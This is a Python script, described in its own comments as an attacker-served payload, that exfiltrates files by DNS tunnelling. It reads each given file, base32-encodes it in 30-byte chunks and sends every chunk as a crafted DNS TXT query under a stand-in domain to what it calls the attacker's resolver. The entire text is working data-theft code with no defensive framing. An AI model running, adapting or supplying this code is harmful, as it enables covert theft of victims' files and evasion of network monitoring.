# DNS-tunnel exfiltration payload (served by the attacker's payload server).
# Reads each file given, base32-encodes it in 30-byte chunks and sends one
# DNS query per chunk: <chunk>.<seq>.<file>.t.exfil-example.net TXT, to the
# attacker's resolver on 127.0.0.1:53.
import base64, os, random, socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.2)
for fi, path in enumerate(sys.argv[1:]):
    data = open(path, "rb").read()
    for seq in range(0, len(data), 30):
        label = base64.b32encode(data[seq:seq + 30]).decode().rstrip("=").lower()
        name = [label, "%d" % (seq // 30), "f%d" % fi, "t", "exfil-example", "net"]
        q = struct.pack(">HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
        q += b"".join(bytes([len(p)]) + p.encode() for p in name) + b"\x00" + struct.pack(">HH", 16, 1)
        s.sendto(q, ("127.0.0.1", 53))
        try:
            s.recv(512)
        except socket.timeout:
            pass
